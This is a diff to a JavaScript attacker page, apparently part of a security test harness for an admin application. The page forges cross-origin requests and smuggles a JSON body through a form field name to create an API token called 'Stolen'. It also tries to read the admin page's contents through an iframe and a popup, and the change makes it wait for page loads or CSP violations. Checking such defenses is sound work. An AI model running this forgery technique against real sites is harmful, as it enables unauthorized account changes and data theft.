@@ -22,8 +22,23 @@ document.addEventListener('click', async () => {
   const crumb = (/(?:^|; )crumb=([^;]*)/.exec(document.cookie) || [])[1] || '';
   const body = JSON.stringify({ name: 'Stolen', scopes: ['orders.read'] });
   const opened = window.open(origins.admin + '/config/settings');
+  // What was sent has ended: its answer is there, or the policy of the page has refused it.
+  const ended = (target, origin) => new Promise((done) => {
+    target.addEventListener('load', done);
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      if (/^(form-action|frame-src)$/.test(effectiveDirective) && blockedURI.startsWith(origin)) done();
+    });
+  });
+  // A window that is ours to read is at its first, empty document until it leads elsewhere.
+  const left = async (window) => {
+    for (;;) {
+      try { if (window.closed || window.location.href !== 'about:blank' && window.document.readyState === 'complete') return; } catch { return; }
+      await new Promise((done) => setTimeout(done, 10));
+    }
+  };
   const frame = document.createElement('iframe');
   frame.src = origins.admin + '/config/settings';
+  const sent = [ended(frame, origins.admin), left(opened)];
   document.body.append(frame);
   for (const origin of Object.values(origins)) {
     for (const [mode, type] of [['cors', 'application/json'], ['same-origin', 'application/json'], ['no-cors', 'text/plain']]) {
@@ -46,9 +61,10 @@ document.addEventListener('click', async () => {
     field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}';
     form.append(field);
     document.body.append(target, form);
+    sent.push(ended(target, origin));
     form.submit();
   }
-  await new Promise((done) => setTimeout(done, 1500));
+  await Promise.all(sent);
   try { stolen.push('frame ' + frame.contentDocument.body.innerHTML); } catch {}
   try { stolen.push('window ' + opened.document.body.innerHTML); } catch {}
   try { opened.postMessage('hello', '*'); } catch {}
